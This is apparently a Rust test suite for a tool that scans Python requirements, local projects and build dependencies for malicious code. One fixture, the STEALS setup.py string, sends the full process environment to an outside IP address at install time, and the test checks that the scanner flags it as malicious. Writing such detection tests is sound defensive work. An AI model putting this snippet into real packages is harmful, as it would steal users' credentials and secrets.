//! What is built from source when installed, and what building it
//! installs. Editable and local path requirements (`-e ./pkg`, `./pkg`)
//! are scanned from disk, once each, whatever names them; their build
//! requirements (`[build-system] requires`, or pip's setuptools fallback),
//! and those of releases with no wheel for the target platform, are
//! resolved on the index and scanned as build dependencies.

mod support;

use support::{Dist, IndexServer, artifact, assay, json, report, targets, tidy, write};

/// An index with the build backend the local projects need.
fn backend_index() -> IndexServer {
    IndexServer::start(&[setuptools().wheel()])
}

/// A local project whose setup.py sends the environment away at install
/// time (never run: assay only reads it).
fn project(dir: &std::path::Path, setup: &str) {
    std::fs::create_dir_all(dir.join("localpkg/localpkg")).unwrap();
    write(
        dir,
        "localpkg/pyproject.toml",
        "[project]\nname = \"localpkg\"\nversion = \"0.1\"\ndependencies = []\n",
    );
    write(dir, "localpkg/localpkg/__init__.py", "X = 1\n");
    write(dir, "localpkg/setup.py", setup);
}

const STEALS: &str = r#"import os, json, urllib.request
from setuptools import setup
urllib.request.urlopen("http://203.0.113.9/c", data=json.dumps(dict(os.environ)).encode())
setup(name="localpkg", version="0.1")
"#;

fn scan(dir: &std::path::Path, requirements: &str) -> serde_json::Value {
    let index = backend_index();
    let cache = tempfile::tempdir().unwrap();
    let list = write(dir, "requirements.txt", requirements);
    let output = assay(cache.path())
        .current_dir(dir)
        .args(["--index-url", &index.index_url(), "-r"])
        .arg(&list)
        .output()
        .unwrap();
    let code = output.status.code().unwrap_or(-1);
    report(&output, code)
}

#[test]
fn an_editable_local_project_is_scanned_from_disk() {
    let dir = tempfile::tempdir().unwrap();
    project(dir.path(), STEALS);
    let doc = scan(dir.path(), "-e ./localpkg\n");
    let local = doc["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["target"].as_str().unwrap().ends_with("localpkg"))
        .expect("the local project");
    assert_eq!(local["verdict"]["label"], "malicious", "{doc:#}");
}

#[test]
fn a_local_project_named_twice_is_scanned_once() {
    let dir = tempfile::tempdir().unwrap();
    project(
        dir.path(),
        "from setuptools import setup\nsetup(name=\"localpkg\", version=\"0.1\")\n",
    );
    let doc = scan(dir.path(), "-e ./localpkg\n./localpkg\n");
    let artifacts = doc["artifacts"].as_array().unwrap();
    let local: Vec<&serde_json::Value> = artifacts
        .iter()
        .filter(|a| a["target"].as_str().unwrap().contains("localpkg"))
        .collect();
    assert_eq!(local.len(), 1, "{doc:#}");
    assert_eq!(local[0]["verdict"]["label"], "clean", "{doc:#}");
}

#[test]
fn building_a_local_project_installs_its_build_dependencies_which_are_scanned() {
    let dir = tempfile::tempdir().unwrap();
    project(
        dir.path(),
        "from setuptools import setup\nsetup(name=\"localpkg\", version=\"0.1\")\n",
    );
    // No [build-system]: pip builds it with setuptools.
    let doc = scan(dir.path(), "./localpkg\n");
    let backend = artifact(&doc, "setuptools-70.0");
    let notes = backend["provenance"]["notes"].to_string();
    assert!(
        notes.contains("build dependency") && notes.contains("localpkg"),
        "{backend:#}"
    );
    let why = backend["provenance"]["required_by"][0].as_str().unwrap();
    assert!(
        why.contains("build-system.requires setuptools>=40.8.0"),
        "{why}"
    );
}

#[test]
fn declared_build_requirements_are_the_ones_resolved() {
    let dir = tempfile::tempdir().unwrap();
    project(dir.path(), "");
    write(
        dir.path(),
        "localpkg/pyproject.toml",
        "[build-system]\nrequires = [\"no-such-backend\"]\n\n[project]\nname = \"localpkg\"\nversion = \"0.1\"\n",
    );
    let doc = scan(dir.path(), "./localpkg\n");
    let targets = targets(&doc);
    assert!(
        !targets.iter().any(|t| t.contains("setuptools")),
        "{targets:?}"
    );
    let warnings = doc["warnings"].to_string();
    assert!(
        warnings.contains("build dependencies of") && warnings.contains("no-such-backend"),
        "{doc:#}"
    );
}

/// The setuptools wheel of [`backend_index`].
fn setuptools() -> Dist<'static> {
    Dist {
        name: "setuptools",
        version: "70.0",
        requires: &[],
        files: &[(
            "setuptools/__init__.py",
            "def setup(**kw):\n    return kw\n",
        )],
    }
}

#[test]
fn a_release_with_wheels_only_for_other_platforms_is_built_so_its_build_dependencies_are_scanned() {
    // tidy 1.0: an sdist (whose pyproject.toml requires setuptools) and a
    // Windows-only wheel.
    let (wheel, bytes) = tidy().wheel();
    let windows_wheel = wheel.replace("py3-none-any", "cp311-cp311-win_amd64");
    let index = IndexServer::start(&[tidy().sdist(), (windows_wheel, bytes), setuptools().wheel()]);
    let cache = tempfile::tempdir().unwrap();
    let scan = |platform: &str| {
        let output = assay(cache.path())
            .args([
                "--index-url",
                &index.index_url(),
                "--platform",
                platform,
                "tidy",
            ])
            .output()
            .unwrap();
        json(&output)
    };
    let linux = scan("linux");
    let backend = artifact(&linux, "setuptools-70.0");
    let notes = backend["provenance"]["notes"].to_string();
    assert!(
        notes.contains("build dependency") && notes.contains("tidy 1.0"),
        "{backend:#}"
    );
    let windows = scan("windows");
    let targets = targets(&windows);
    assert!(
        !targets.iter().any(|t| t.starts_with("setuptools")),
        "the wheel is installed on Windows, nothing is built: {targets:?}"
    );
}
